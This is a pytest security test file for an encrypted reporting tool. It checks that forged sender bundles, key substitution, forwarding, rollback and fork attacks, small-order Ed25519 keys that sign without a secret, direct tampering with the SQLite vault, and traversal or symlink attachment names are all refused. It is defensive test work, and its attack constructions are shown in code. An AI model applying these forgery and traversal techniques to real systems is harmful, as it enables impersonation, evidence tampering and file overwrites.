"""Protocol attacks from issue 11, each a test named for the attack, on real vaults.

Many attacks are already covered where their module is tested; ``ATTACKS`` maps every
attack of the issue to the tests that cover it (here or elsewhere) and a test checks that
each named test exists, so this file is the index. Attackers here hold only what the
threat model gives them: public cards, files that pass through their hands, their own keys,
a copy of a vault file. Every refused attack must leave the coordinator's vault unchanged.
"""

from __future__ import annotations

import ast
import base64
import io
import json
import os
import shutil
import sqlite3
import struct
import time
from collections.abc import Iterator, Sequence
from datetime import timedelta
from pathlib import Path

import pytest

from securesubmit.core import agev1, audit, bundle, crypto, exchange, merkle, note, seal
from securesubmit.core.identity import CardExpired, PublicKeys
from securesubmit.core.partners import VERIFIED_CONFIRMED
from securesubmit.core.service import Session, create_vault, unlock_vault, verify_audit
from securesubmit.errors import (
    FormatError,
    Refused,
    SecureSubmitError,
    VerificationError,
    WeakKey,
)
from tests.helpers import FAST_KDF, PASSPHRASE, WEAK_INIT, FixedClock, cli_env, run_cli
from tests.security.world import (
    COORDINATOR_NAME,
    age_decrypt,
    age_encrypt,
    file_vault_digest,
    real_now_clock,
    vault_digest,
)

REPO = Path(__file__).resolve().parents[2]
SMALL_ORDER_POINT = bytes([1]) + bytes(31)  # the neutral element: every "signature" verifies
SECRETLESS_SIGNATURE = SMALL_ORDER_POINT + bytes(32)  # R = neutral element, S = 0

# Every attack named in issue 11 -> the tests that show it is refused or reported.
ATTACKS: dict[str, list[str]] = {
    "forged sender": [
        "tests/security/test_attacks.py::test_forged_sender_bundle_claiming_the_reporter_is_refused",
        "tests/security/test_attacks.py::test_forged_sender_report_of_another_partner_inside_a_bundle_is_refused",
        "tests/unit/test_exchange.py::test_unknown_sender_is_refused_with_its_fingerprint",
        "tests/unit/test_seal.py::test_a_forged_signature_is_refused",
    ],
    "key substitution": [
        "tests/security/test_attacks.py::test_key_substitution_in_the_manifest_sender_is_refused",
        "tests/security/test_attacks.py::test_key_substitution_by_a_rotation_the_old_key_never_signed_is_refused",
        "tests/unit/test_partners.py::test_typed_fingerprint_must_match",
        "tests/unit/test_partners.py::test_trust_store_card_whose_fingerprint_differs_from_manifest_is_refused",
        "tests/unit/test_audit.py::test_substituted_log_key_is_reported",
    ],
    "surreptitious forwarding": [
        "tests/security/test_attacks.py::test_surreptitious_forwarding_inside_the_forwarders_own_bundle_is_refused",
        "tests/unit/test_sealing.py::test_forwarded_to_a_third_party_is_detected",
        "tests/unit/test_exchange.py::test_bundle_re_encrypted_for_another_recipient_is_refused",
    ],
    "replay": ["tests/unit/test_exchange.py::test_replay_is_a_duplicate_and_changes_nothing"],
    "reorder": [
        "tests/unit/test_exchange.py::test_gap_is_imported_and_the_missing_numbers_are_reported",
        "tests/security/test_attacks.py::test_reorder_an_older_bundle_arriving_late_is_not_called_a_rollback",
    ],
    "drop": [
        "tests/unit/test_exchange.py::test_gap_is_imported_and_the_missing_numbers_are_reported",
        "tests/unit/test_bundle.py::test_a_huge_gap_is_reported_as_a_range_not_a_list",
    ],
    "rollback": [
        "tests/security/test_attacks.py::test_rollback_of_a_vault_is_caught_against_the_checkpoint_its_partner_kept",
        "tests/unit/test_exchange.py::test_fork_after_restoring_an_old_copy_is_refused",
        "tests/unit/test_audit.py::test_whole_file_rollback_is_caught_against_a_kept_checkpoint",
    ],
    "fork": [
        "tests/security/test_attacks.py::test_fork_of_the_senders_log_behind_a_consistent_chain_is_reported",
        "tests/unit/test_exchange.py::test_fork_after_restoring_an_old_copy_is_refused",
        "tests/unit/test_audit.py::test_fork_is_caught_against_a_kept_checkpoint",
        "tests/unit/test_exchange.py::test_a_second_rotation_from_a_retired_key_is_refused_as_a_fork",
    ],
    "revoked key": [
        "tests/unit/test_exchange.py::test_bundle_from_a_revoked_key_is_refused",
        "tests/unit/test_sealing.py::test_revoked_partner_is_refused",
    ],
    "expired card": [
        "tests/unit/test_partners.py::test_expired_card_is_refused",
        "tests/unit/test_partners.py::test_partner_card_expiring_later_cannot_be_sealed_to",
        "tests/security/test_attacks.py::test_expired_card_a_bundle_signed_after_the_senders_card_expired_is_not_silently_accepted",
    ],
    "small-order keys": [
        "tests/security/test_attacks.py::test_small_order_key_signing_a_manifest_without_a_secret_is_refused",
        "tests/security/test_attacks.py::test_small_order_log_key_cannot_vouch_for_a_rewritten_vault",
        "tests/unit/test_crypto.py::test_small_order_signing_keys_are_refused",
        "tests/unit/test_identity_card.py::test_card_with_small_order_age_recipient_is_refused",
        "tests/unit/test_agehdr.py::test_small_order_shares_are_refused_in_every_encoding",
    ],
    "path traversal": [
        "tests/security/test_attacks.py::test_path_traversal_attachment_names_never_leave_the_save_folder",
        "tests/unit/test_attachments.py::test_save_never_overwrites_and_never_escapes",
    ],
    "symlinks": [
        "tests/security/test_attacks.py::test_symlink_every_file_writer_refuses_to_write_through_one",
        "tests/security/test_attacks.py::test_symlink_planted_in_the_save_folder_is_not_followed",
        "tests/security/test_attacks.py::test_symlink_vault_path_and_planted_wal_are_refused",
    ],
    "decompression/size bombs": [
        "tests/security/test_attacks.py::test_size_bomb_a_sparse_64_gib_bundle_is_refused_before_reading",
        "tests/unit/test_bundle.py::test_reader_limits_are_enforced",
        "tests/unit/test_bundle.py::test_an_oversized_manifest_is_refused_before_it_is_read",
        "tests/unit/test_scrub.py::test_png_decompression_bomb_is_refused_without_decoding",
        "tests/unit/test_scrub.py::test_zip_that_expands_beyond_the_limit_is_not_scrubbed",
        "tests/unit/test_scrub.py::test_jpeg_claiming_billions_of_pixels_is_refused",
        "tests/unit/test_seal.py::test_a_crafted_1_mib_header_stays_within_64_mib",
    ],
    "huge age header": [
        "tests/unit/test_bundle.py::test_10000_stanza_age_header_is_refused_before_decryption",
        "tests/unit/test_agehdr.py::test_the_header_may_be_max_header_bytes_long_and_no_longer",
        "tests/unit/test_agehdr.py::test_at_most_max_stanzas",
    ],
    "scrypt stanza with a huge work factor": [
        "tests/security/test_attacks.py::test_scrypt_stanza_with_a_huge_work_factor_in_a_sealed_report_is_refused_first",
        "tests/unit/test_bundle.py::test_scrypt_stanza_age_header_is_refused_before_decryption",
    ],
    "non-canonical encodings": [
        "tests/security/test_attacks.py::test_non_canonical_and_duplicated_json_in_a_validly_signed_manifest_is_refused",
        "tests/unit/test_bundle.py::test_manifest_json_outside_the_canonical_form_is_refused",
        "tests/unit/test_crypto.py::test_non_canonical_signing_key_is_refused",
        "tests/unit/test_identity_card.py::test_every_single_byte_change_is_refused",
        "tests/unit/test_agehdr.py::test_mutations_raise_only_format_error_and_what_passes_is_canonical",
    ],
    "duplicated fields": [
        "tests/security/test_attacks.py::test_non_canonical_and_duplicated_json_in_a_validly_signed_manifest_is_refused",
        "tests/unit/test_bundle.py::test_invalid_vector_is_refused_with_its_error",
        "tests/unit/test_identity_card.py::test_invalid_vector_is_refused_with_its_error_and_message",
        "tests/unit/test_note.py::test_a_malformed_note_is_refused_as_a_format_error",
    ],
    "CSV formula injection": [
        "tests/security/test_attacks.py::test_csv_formula_injection_in_a_received_report_is_neutralised",
    ],
    # issue 12
    "ML-DSA signature stripped": [
        "tests/security/test_attacks.py::test_mldsa_signature_stripped_from_a_hybrid_bundle_is_refused",
        "tests/unit/test_seal.py::test_v2_vector_is_refused_with_its_error",
    ],
    "ML-DSA signature altered": [
        "tests/security/test_attacks.py::test_mldsa_signature_altered_in_a_hybrid_bundle_is_refused",
        "tests/unit/test_bundle.py::test_v2_vector_is_refused_with_its_error",
    ],
    "downgrade: hybrid partner, classical bundle": [
        "tests/security/test_attacks.py::test_downgrade_hybrid_partner_classical_bundle_is_refused",
        "tests/security/test_attacks.py::test_downgrade_hybrid_bundle_re_encrypted_classical_is_refused",
    ],
    "require-hybrid coordinator, classical outer layer": [
        "tests/security/test_attacks.py::test_require_hybrid_coordinator_refuses_a_classical_outer_layer",
    ],
    "ML-DSA checkpoint signature stripped or altered": [
        "tests/security/test_attacks.py::test_a_hybrid_senders_checkpoint_is_checked_with_both_keys_and_pinned",
        "tests/security/test_attacks.py::test_a_hybrid_checkpoint_stripped_of_its_mldsa_line_cannot_be_sent",
        "tests/unit/test_bundle.py::test_a_hybrid_log_checkpoint_without_a_valid_mldsa_signature_is_refused",
        "tests/unit/test_audit.py::test_stripping_the_mldsa_line_of_the_latest_checkpoint_is_named",
    ],
}


def _tests_in(path: Path) -> set[str]:
    tree = ast.parse(path.read_text(), str(path))
    return {n.name for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)}


def test_every_attack_of_the_issue_has_a_named_test_that_exists() -> None:
    missing = []
    for attack, tests in ATTACKS.items():
        assert tests, attack
        for node in tests:
            file, name = node.split("::")
            if not (REPO / file).exists() or name not in _tests_in(REPO / file):
                missing.append(f"{attack}: {node}")
    assert missing == []


# --- the world: a reporter, a coordinator, and the attacker's helpers ----------------------


@pytest.fixture
def clock() -> FixedClock:
    return real_now_clock()


def _vault(
    path: Path, name: str, clock: FixedClock, role: str = "reporter", *, hybrid: bool = False
) -> Session:
    """Classical unless ``hybrid``: most attacks here craft version 1 containers by hand
    (which every reader still accepts from classical partners); the post-quantum attacks
    below use hybrid vaults."""
    return create_vault(
        path, PASSPHRASE, name=name, role=role, kdf=FAST_KDF, clock=clock, post_quantum=hybrid
    )


def _partner(a: Session, b: Session) -> None:
    a.add_partner(b.own_card(), verified=VERIFIED_CONFIRMED)
    b.add_partner(a.own_card(), verified=VERIFIED_CONFIRMED)


@pytest.fixture
def pair(tmp_path: Path, clock: FixedClock) -> Iterator[tuple[Session, Session]]:
    reporter = _vault(tmp_path / "reporter.db", "Aigerim", clock)
    coord = _vault(tmp_path / "coordinator.db", COORDINATOR_NAME, clock, "coordinator")
    _partner(reporter, coord)
    yield reporter, coord
    reporter.close()
    coord.close()


def _seal(reporter: Session, title: str, to: str = COORDINATOR_NAME) -> str:
    report = reporter.create_report(title=title, category="repression", description="text")
    return str(reporter.seal_report(report.id, [to]).id)


def _export(reporter: Session, out: Path, to: str = COORDINATOR_NAME) -> exchange.ExportResult:
    return reporter.export_bundle(to, out)


class _Unchanged:
    """Asserts that a session's vault is the same, row for row, at the end of the block."""

    def __init__(self, session: Session) -> None:
        self.session = session

    def __enter__(self) -> None:
        self.before = vault_digest(self.session.vault._conn)

    def __exit__(self, *exc: object) -> None:
        if exc[0] is None:
            assert vault_digest(self.session.vault._conn) == self.before, "the vault changed"


def _manifest_of(container: bytes) -> dict[str, object]:
    length = struct.unpack(">I", container[24:28])[0]
    return json.loads(container[28 : 28 + length])


def _container(manifest: bytes, signature: bytes, members: Sequence[bytes] = ()) -> bytes:
    out = bundle.MAGIC + b"M" + struct.pack(">I", len(manifest)) + manifest + signature
    for index, member in enumerate(members):
        out += struct.pack(">cIQ", b"R", index, len(member)) + member
    return out + struct.pack(">cIQ", b"E", len(members), sum(len(m) for m in members))


def _canonical(value: object) -> bytes:
    return bundle.canonical_json(value)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _sign_manifest(seed: bytes, manifest: bytes) -> bytes:
    return crypto.sign(seed, bundle.MANIFEST_SIGNATURE_LABEL, manifest)


# --- forged sender -----------------------------------------------------------------------------


def test_forged_sender_bundle_claiming_the_reporter_is_refused(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """An attacker who knows the reporter's public card writes a bundle that names the
    reporter as its sender, signed with the attacker's own key."""
    reporter, coord = pair
    _seal(reporter, "genuine")
    genuine = age_decrypt(
        _export(reporter, tmp_path / "b1.ssb").path.read_bytes(),
        coord.identity.encryption_secret,
    )
    manifest = _manifest_of(genuine)
    manifest["members"] = []
    manifest["bundle_id"] = "f" * 32
    data = _canonical(manifest)
    attacker_seed = crypto.generate_signing_key()
    forged = _container(data, _sign_manifest(attacker_seed, data))
    path = _write(tmp_path / "forged.ssb", age_encrypt(forged, coord.identity.encryption_public))
    with _Unchanged(coord), pytest.raises(VerificationError, match="signature"):
        coord.import_bundle(path)


def test_forged_sender_report_of_another_partner_inside_a_bundle_is_refused(
    pair: tuple[Session, Session], tmp_path: Path, clock: FixedClock
) -> None:
    """A second reporter, also a partner of the coordinator, carries the first reporter's
    sealed report (picked up from a shared USB stick) inside its own, validly signed
    bundle, as if it were its own."""
    reporter, coord = pair
    other = _vault(tmp_path / "other.db", "Other Reporter", clock)
    _partner(other, coord)
    receipt = _seal(reporter, "the first reporter's report")
    stolen = tmp_path / "stolen.age"
    reporter.export_sealed_file(receipt, stolen)
    data = stolen.read_bytes()
    report_id = reporter.get_receipt(receipt).report_id
    out = io.BytesIO()
    me = other.identity
    bundle.write_bundle(
        out,
        sender_seed=me.signing_seed,
        sender_keys=me.keys,
        recipient=coord.identity.keys,
        sequence=1,
        previous_hash=bundle.ZERO_HASH,
        members=[
            bundle.Member(report_id, len(data), crypto.sha256(data), lambda: io.BytesIO(data))
        ],
        statements=(),
        audit=None,
        created=clock(),
    )
    path = _write(tmp_path / "carried.ssb", out.getvalue())
    with _Unchanged(coord), pytest.raises(Refused, match="someone other than"):
        coord.import_bundle(path)
    other.close()


# --- key substitution -----------------------------------------------------------------------


@pytest.mark.parametrize("variant", ["fingerprint kept, keys replaced", "encryption key replaced"])
def test_key_substitution_in_the_manifest_sender_is_refused(
    pair: tuple[Session, Session], tmp_path: Path, variant: str
) -> None:
    """The attacker keeps the reporter's name in the channel but substitutes keys: either
    the reporter's fingerprint over the attacker's keys, or the reporter's signing key with
    the attacker's encryption key (so that replies would be readable by the attacker)."""
    reporter, coord = pair
    _seal(reporter, "genuine")
    genuine = age_decrypt(
        _export(reporter, tmp_path / "b1.ssb").path.read_bytes(),
        coord.identity.encryption_secret,
    )
    manifest = _manifest_of(genuine)
    attacker_seed = crypto.generate_signing_key()
    attacker = PublicKeys(
        crypto.signing_public_key(attacker_seed),
        crypto.encryption_public_key(crypto.generate_encryption_key()),
    )
    sender = dict(manifest["sender"])  # type: ignore[call-overload]
    if variant == "fingerprint kept, keys replaced":
        sender.update(
            signing_key=_b64(attacker.signing_public), age_recipient=attacker.age_recipient
        )
        signer = attacker_seed
    else:
        mixed = PublicKeys(reporter.identity.signing_public, attacker.encryption_public)
        sender.update(age_recipient=mixed.age_recipient, fingerprint=_b64(mixed.fingerprint))
        signer = reporter.identity.signing_seed  # even a valid signature does not help
    manifest.update(sender=sender, members=[], bundle_id="e" * 32)
    data = _canonical(manifest)
    forged = _container(data, _sign_manifest(signer, data))
    path = _write(tmp_path / "forged.ssb", age_encrypt(forged, coord.identity.encryption_public))
    keys_before = [p.keys for p in coord.list_partners()]
    with _Unchanged(coord), pytest.raises(SecureSubmitError):
        coord.import_bundle(path)
    assert [p.keys for p in coord.list_partners()] == keys_before


def test_key_substitution_by_a_rotation_the_old_key_never_signed_is_refused(
    pair: tuple[Session, Session], tmp_path: Path, clock: FixedClock
) -> None:
    """The attacker's bundle carries a rotation "from the reporter's keys to mine", made by
    editing a genuine rotation of the attacker's own keys: the old signature cannot match."""
    from securesubmit.core import identity

    reporter, coord = pair
    seed_1, seed_2 = crypto.generate_signing_key(), crypto.generate_signing_key()
    secret_2 = crypto.generate_encryption_key()
    own = identity.make_rotation(
        seed_1,
        crypto.encryption_public_key(crypto.generate_encryption_key()),
        seed_2,
        crypto.encryption_public_key(secret_2),
        clock(),
    )
    lines = own.to_text().decode().split("\n")
    victim = reporter.identity.keys
    lines[1] = f"old-fingerprint: {victim.display()}"
    lines[2] = f"old-age-recipient: {victim.age_recipient}"
    lines[3] = f"old-signing-key: {_b64(victim.signing_public)}"
    forged_rotation = "\n".join(lines)
    with pytest.raises(VerificationError):
        identity.parse_statement(forged_rotation.encode())
    _seal(reporter, "genuine")
    genuine = age_decrypt(
        _export(reporter, tmp_path / "b1.ssb").path.read_bytes(),
        coord.identity.encryption_secret,
    )
    manifest = _manifest_of(genuine)
    new_keys = PublicKeys(crypto.signing_public_key(seed_2), crypto.encryption_public_key(secret_2))
    manifest.update(
        sender={
            "fingerprint": _b64(new_keys.fingerprint),
            "signing_key": _b64(new_keys.signing_public),
            "age_recipient": new_keys.age_recipient,
        },
        statements=[forged_rotation],
        members=[],
        bundle_id="d" * 32,
    )
    data = _canonical(manifest)
    path = _write(
        tmp_path / "forged.ssb",
        age_encrypt(
            _container(data, _sign_manifest(seed_2, data)), coord.identity.encryption_public
        ),
    )
    with _Unchanged(coord), pytest.raises(SecureSubmitError):
        coord.import_bundle(path)
    (partner,) = coord.list_partners()
    assert partner.keys == victim and partner.rotations == 0


# --- surreptitious forwarding ---------------------------------------------------------------


def test_surreptitious_forwarding_inside_the_forwarders_own_bundle_is_refused(
    tmp_path: Path, clock: FixedClock
) -> None:
    """Partner B can read what the reporter sealed to it; B re-encrypts it to partner C and
    sends it in B's own genuine bundle, so that C believes the reporter sent it to C."""
    reporter = _vault(tmp_path / "r.db", "Aigerim", clock)
    b = _vault(tmp_path / "b.db", "Partner B", clock, "coordinator")
    c = _vault(tmp_path / "c.db", "Partner C", clock, "coordinator")
    _partner(reporter, b)
    _partner(reporter, c)
    _partner(b, c)
    receipt = _seal(reporter, "for B only", to="Partner B")
    sealed = tmp_path / "for-b.age"
    reporter.export_sealed_file(receipt, sealed)
    container = age_decrypt(sealed.read_bytes(), b.identity.encryption_secret)
    forwarded = age_encrypt(container, c.identity.encryption_public)
    out = io.BytesIO()
    bundle.write_bundle(
        out,
        sender_seed=b.identity.signing_seed,
        sender_keys=b.identity.keys,
        recipient=c.identity.keys,
        sequence=1,
        previous_hash=bundle.ZERO_HASH,
        members=[
            bundle.Member(
                reporter.get_receipt(receipt).report_id,
                len(forwarded),
                crypto.sha256(forwarded),
                lambda: io.BytesIO(forwarded),
            )
        ],
        statements=(),
        audit=None,
        created=clock(),
    )
    path = _write(tmp_path / "from-b.ssb", out.getvalue())
    with _Unchanged(c), pytest.raises(seal.ForwardedReport):
        c.import_bundle(path)
    for session in (reporter, b, c):
        session.close()


# --- reorder, rollback, fork ---------------------------------------------------------------


def test_reorder_an_older_bundle_arriving_late_is_not_called_a_rollback(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    reporter, coord = pair
    _seal(reporter, "first")
    first = _export(reporter, tmp_path / "b1.ssb")
    _seal(reporter, "second")
    second = _export(reporter, tmp_path / "b2.ssb")
    assert coord.import_bundle(second.path).decision == "gap"
    late = coord.import_bundle(first.path)
    assert late.decision == "older"
    assert not [w for w in late.warnings if "ROLLED BACK" in w or "FORKED" in w], late.warnings


def _kept_checkpoint(coord: Session) -> bytes:
    (partner,) = coord.list_partners()
    state = coord.vault.get(exchange._sender_state_id(coord, partner))
    assert state is not None
    return str(state["checkpoint"]).encode("utf-8")


def test_rollback_of_a_vault_is_caught_against_the_checkpoint_its_partner_kept(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """The reporter's device is restored from an older copy (or an attacker swaps the
    file). The copy is consistent in itself; the checkpoint the coordinator kept from the
    last bundle shows the events that are gone."""
    reporter, coord = pair
    _seal(reporter, "before the copy")
    coord.import_bundle(_export(reporter, tmp_path / "b1.ssb").path)
    reporter.vault.checkpoint()
    shutil.copyfile(tmp_path / "reporter.db", tmp_path / "old-copy.db")
    _seal(reporter, "after the copy")
    coord.import_bundle(_export(reporter, tmp_path / "b2.ssb").path)
    kept = _write(tmp_path / "kept-checkpoint.txt", _kept_checkpoint(coord))
    reporter.close()
    shutil.copyfile(tmp_path / "old-copy.db", tmp_path / "reporter.db")  # the rollback
    verify_audit(tmp_path / "reporter.db")  # intact in itself: that is the danger
    env = cli_env(tmp_path / "auditor")
    result = run_cli(
        "audit", "verify", str(tmp_path / "reporter.db"), "--against", str(kept), env=env
    )
    assert result.returncode == VerificationError.exit_code, result.stderr
    assert "rolled back" in result.stdout + result.stderr and "Traceback" not in result.stderr


def test_fork_of_the_senders_log_behind_a_consistent_chain_is_reported(
    pair: tuple[Session, Session], tmp_path: Path, clock: FixedClock
) -> None:
    """The sender's bundle chain continues correctly, but the audit log it carries is not
    an extension of the one the coordinator saw before: a copy taken earlier went another
    way (the sender's device was restored and its export state forged or restored apart)."""
    reporter, coord = pair
    reporter.vault.checkpoint()
    shutil.copyfile(tmp_path / "reporter.db", tmp_path / "earlier.db")
    _seal(reporter, "seen by the coordinator")
    first = _export(reporter, tmp_path / "b1.ssb")
    coord.import_bundle(first.path)
    seen = coord.vault.get(exchange._sender_state_id(coord, coord.list_partners()[0]))
    assert seen is not None
    with unlock_vault(tmp_path / "earlier.db", PASSPHRASE, clock=clock) as fork:
        for n in range(6):
            fork.create_report(title=f"another history {n}", category="media")
        slot, _ = exchange._audit_slot(fork.vault, int(seen["checkpoint_size"]))
        out = io.BytesIO()
        me = fork.identity
        bundle.write_bundle(
            out,
            sender_seed=me.signing_seed,
            sender_keys=me.keys,
            recipient=coord.identity.keys,
            sequence=2,
            previous_hash=first.bundle_hash,
            members=[],
            statements=(),
            audit=slot,
            created=clock(),
        )
    result = coord.import_bundle(_write(tmp_path / "b2-fork.ssb", out.getvalue()))
    assert result.decision == "new"  # the chain itself is consistent
    assert any("FORKED" in w for w in result.warnings), result.warnings
    after = coord.vault.get(exchange._sender_state_id(coord, coord.list_partners()[0]))
    assert after is not None and after["checkpoint_size"] == seen["checkpoint_size"]
    assert any("FORKED" in w for w in after["warnings"])


# --- expired card ------------------------------------------------------------------------------


def test_expired_card_a_bundle_signed_after_the_senders_card_expired_is_not_silently_accepted(
    tmp_path: Path, clock: FixedClock
) -> None:
    reporter = _vault(tmp_path / "r.db", "Aigerim", clock)
    coord = _vault(tmp_path / "c.db", COORDINATOR_NAME, clock, "coordinator")
    reporter.add_partner(coord.own_card(), verified=VERIFIED_CONFIRMED)
    coord.add_partner(reporter.own_card(valid_days=1), verified=VERIFIED_CONFIRMED)
    clock.advance(timedelta(days=3).total_seconds())
    _seal(reporter, "signed after the card expired")
    path = _export(reporter, tmp_path / "late.ssb").path
    try:
        try:
            result = coord.import_bundle(path)
        except CardExpired:
            return  # refused: what a fix may do
        assert any("expired" in w for w in result.warnings), result.warnings
    finally:
        reporter.close()
        coord.close()


# --- small-order keys --------------------------------------------------------------------


def test_small_order_key_signing_a_manifest_without_a_secret_is_refused(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """With the neutral element as public key, the 'signature' R = neutral, S = 0 verifies
    for any message: no secret key is needed. The raw library accepts it; we must not."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

    reporter, coord = pair
    _seal(reporter, "genuine")
    genuine = age_decrypt(
        _export(reporter, tmp_path / "b1.ssb").path.read_bytes(),
        coord.identity.encryption_secret,
    )
    manifest = _manifest_of(genuine)
    manifest.update(
        sender={
            "fingerprint": _b64(
                crypto.sha256(
                    b"securesubmit/v1/fingerprint\x00"
                    + SMALL_ORDER_POINT
                    + reporter.identity.encryption_public
                )
            ),
            "signing_key": _b64(SMALL_ORDER_POINT),
            "age_recipient": reporter.identity.age_recipient,
        },
        members=[],
        bundle_id="c" * 32,
    )
    data = _canonical(manifest)
    labelled = b"securesubmit/v1/" + bundle.MANIFEST_SIGNATURE_LABEL.encode() + b"\x00" + data
    Ed25519PublicKey.from_public_bytes(SMALL_ORDER_POINT).verify(SECRETLESS_SIGNATURE, labelled)
    path = _write(
        tmp_path / "weak.ssb",
        age_encrypt(_container(data, SECRETLESS_SIGNATURE), coord.identity.encryption_public),
    )
    with _Unchanged(coord), pytest.raises(WeakKey):
        coord.import_bundle(path)


def test_small_order_log_key_cannot_vouch_for_a_rewritten_vault(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """An attacker with the vault file deletes a report and appends a matching "deletion"
    event to the clear log (the leaf only commits to the hash of the encrypted details,
    so random bytes will do), updates the stored tree state, then signs a checkpoint of
    the new tree with a small-order "log key", which needs no secret. Only the refusal of
    such keys catches it."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

    from securesubmit.core.vault import Write

    reporter, _ = pair
    doomed = reporter.create_report(title="evidence to erase", category="repression")
    reporter.close()
    path = tmp_path / "reporter.db"
    conn = sqlite3.connect(path)
    try:
        row = bytes.fromhex(doomed.id)
        conn.execute("DELETE FROM objects WHERE id = ?", (row,))
        (seq,) = conn.execute("SELECT count(*) FROM events").fetchone()
        details = os.urandom(256)
        leaf = audit.encode_leaf(seq, crypto.sha256(details), [Write.deletion("objects", row)])
        conn.execute("INSERT INTO events (seq, leaf, data) VALUES (?, ?, ?)", (seq, leaf, details))
        leaves = [bytes(r[0]) for r in conn.execute("SELECT leaf FROM events ORDER BY seq")]
        root = merkle.root_of_hash_list([merkle.leaf_hash(x) for x in leaves])
        name = audit.log_name(SMALL_ORDER_POINT)
        body = note.format_checkpoint_body(note.Checkpoint(name, len(leaves), root))
        Ed25519PublicKey.from_public_bytes(SMALL_ORDER_POINT).verify(SECRETLESS_SIGNATURE, body)
        signature = note.key_id(name, SMALL_ORDER_POINT) + SECRETLESS_SIGNATURE
        forged = body + b"\n" + f"\u2014 {name} {_b64(signature)}\n".encode()
        state = merkle.TreeState()
        for x in leaves:
            state.append(merkle.leaf_hash(x))
        conn.execute("UPDATE meta SET value = ? WHERE name = 'tree_state'", (state.to_bytes(),))
        conn.execute("UPDATE meta SET value = ? WHERE name = 'log_key'", (SMALL_ORDER_POINT,))
        conn.execute("DELETE FROM checkpoints")
        conn.execute("INSERT INTO checkpoints (size, note) VALUES (?, ?)", (len(leaves), forged))
        conn.commit()
    finally:
        conn.close()
    with pytest.raises(audit.LogTampered) as refused:
        verify_audit(path)
    assert refused.value.problems == [
        next(
            p
            for p in refused.value.problems
            if p.startswith("the vault's checkpoint does not verify")
        )
    ]


# --- path traversal and symlinks ------------------------------------------------------------


LEGAL_BUT_UNSAFE = " escape.txt"  # the format allows it; saving it by its name is refused


@pytest.mark.parametrize(
    "name", ["../escape.txt", "..", "dir\\..\\..\\escape.txt", "txt.\u202eexe", LEGAL_BUT_UNSAFE]
)
def test_path_traversal_attachment_names_never_leave_the_save_folder(
    pair: tuple[Session, Session], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """A reporter's device (or someone holding its key) seals a report whose attachment
    name tries to climb out of the folder the coordinator saves attachments to. The
    sender-side checks are switched off, so only the receiver's defences are tested."""
    from securesubmit.core import service

    reporter, coord = pair
    source = _write(tmp_path / "payload.txt", b"payload")
    monkeypatch.setattr(service, "check_attachment_name", lambda name: None)
    monkeypatch.setattr(seal, "_name_problem", lambda name: None)
    report = reporter.create_report(title="traversal", category="other")
    reporter.attach_file(report.id, source, name=name, scrub=False)
    receipt = reporter.seal_report(report.id, [COORDINATOR_NAME])
    monkeypatch.undo()
    sealed = tmp_path / "traversal.age"
    reporter.export_sealed_file(receipt.id, sealed)
    bundle_path = _export(reporter, tmp_path / "traversal.ssb").path
    folder = tmp_path / "deep" / "saved"
    folder.mkdir(parents=True)
    before = sorted(tmp_path.rglob("*"))
    refusal = Refused if name == LEGAL_BUT_UNSAFE else FormatError
    with _Unchanged(coord), pytest.raises(refusal):
        coord.open_sealed_file(sealed, folder)
    if name == LEGAL_BUT_UNSAFE:
        imported = coord.import_bundle(bundle_path).imported[0]
        item_id = getattr(imported, "id", imported)  # an item, or (newer) its id
        with pytest.raises(Refused, match="unsafe file name"):
            coord.save_inbox_attachment(item_id, name, folder)
    else:
        with _Unchanged(coord), pytest.raises(FormatError):
            coord.import_bundle(bundle_path)
    assert list(folder.iterdir()) == []
    assert sorted(tmp_path.rglob("*")) == before


def test_symlink_every_file_writer_refuses_to_write_through_one(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    """Every user-chosen output path (attachment save, sealed file, bundle, checkpoint)
    that is a symbolic link, to an existing file or to nowhere, is refused and nothing is
    written where it points."""
    reporter, _ = pair
    source = _write(tmp_path / "photo.bin", b"photo")
    draft = reporter.create_report(title="links", category="other")
    reporter.attach_file(draft.id, source, scrub=False)
    receipt = _seal(reporter, "sealed")
    victim = _write(tmp_path / "victim.txt", b"do not overwrite")
    writers = {
        "attachment": lambda out: reporter.save_attachment(draft.id, "photo.bin", out),
        "sealed file": lambda out: reporter.export_sealed_file(receipt, out),
        "bundle": lambda out: reporter.export_bundle(COORDINATOR_NAME, out),
        "checkpoint": lambda out: reporter.export_checkpoint(out),
    }
    for what, write in writers.items():
        for target in (victim, tmp_path / f"nowhere-{what}"):
            link = tmp_path / f"link-{what}"
            link.unlink(missing_ok=True)
            link.symlink_to(target)
            with pytest.raises(Refused, match="symbolic link"):
                write(link)
            assert victim.read_bytes() == b"do not overwrite", what
            assert not (tmp_path / f"nowhere-{what}").exists(), what
    # The refused export did not advance the chain: the next bundle is still number 1.
    assert reporter.export_bundle(COORDINATOR_NAME, tmp_path / "real.ssb").sequence == 1
    assert not list(tmp_path.glob(".*.part"))


def test_symlink_planted_in_the_save_folder_is_not_followed(
    pair: tuple[Session, Session], tmp_path: Path
) -> None:
    reporter, _ = pair
    draft = reporter.create_report(title="planted", category="other")
    reporter.attach_file(draft.id, _write(tmp_path / "report.pdf", b"%PDF-1.7 x"), scrub=False)
    folder = tmp_path / "usb"
    folder.mkdir()
    outside = _write(tmp_path / "outside.pdf", b"keep")
    (folder / "report.pdf").symlink_to(outside)
    with pytest.raises(Refused):
        reporter.save_attachment(draft.id, "report.pdf", folder)
    assert outside.read_bytes() == b"keep"
    (folder / "report.pdf").unlink()
    (folder / "report.pdf").symlink_to(tmp_path / "created-through-link.pdf")
    with pytest.raises(Refused):
        reporter.save_attachment(draft.id, "report.pdf", folder)
    assert not (tmp_path / "created-through-link.pdf").exists()


def test_symlink_vault_path_and_planted_wal_are_refused(tmp_path: Path) -> None:
    """The vault path is a symbolic link (to a real vault, or to nowhere), or someone
    planted ``vault.db-wal`` as a link to another file: refused, nothing written through."""
